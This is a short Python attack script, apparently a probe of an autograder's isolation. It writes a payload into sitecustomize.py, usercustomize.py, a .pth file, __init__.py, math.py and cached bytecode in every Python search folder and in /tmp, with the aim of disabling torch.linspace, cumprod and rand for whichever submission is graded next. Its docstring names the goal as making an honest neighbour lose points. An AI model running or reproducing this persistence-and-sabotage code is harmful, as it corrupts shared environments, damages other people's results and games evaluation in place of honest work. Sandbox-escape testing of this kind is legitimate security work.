"""Leave something for the next submission: modules, bytecode, .pth and settings in each folder that Python looks into.

The planted code empties linspace and cumprod.

Success: an honest neighbour graded next loses points, or one of the files is there afterwards.
"""
# tried on every level

import contextlib
import os
import site
import sys

POISON = "# attack-was-here\nimport torch\ntorch.linspace = torch.cumprod = torch.rand = None\n"
folders = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"]
for name in ("course_lib", "autograder", "torch", "msgspec", "numpy"):
    with contextlib.suppress(Exception):
        folders += __import__(name).__path__
for folder in dict.fromkeys(folders):
    names = (
        "sitecustomize.py",
        "usercustomize.py",
        "attack-was-here.pth",
        "schedules.py",
        "__init__.py",
        "notation.py",
        "math.py",
    )
    for name in (*names, "__pycache__/notation.cpython-311.pyc", "__pycache__/__init__.cpython-311.pyc"):
        for mode in ("x", "w", "a"):
            with (
                contextlib.suppress(OSError, ValueError),
                open(os.path.join(folder, name), mode, encoding="utf-8") as file,
            ):
                file.write(POISON)
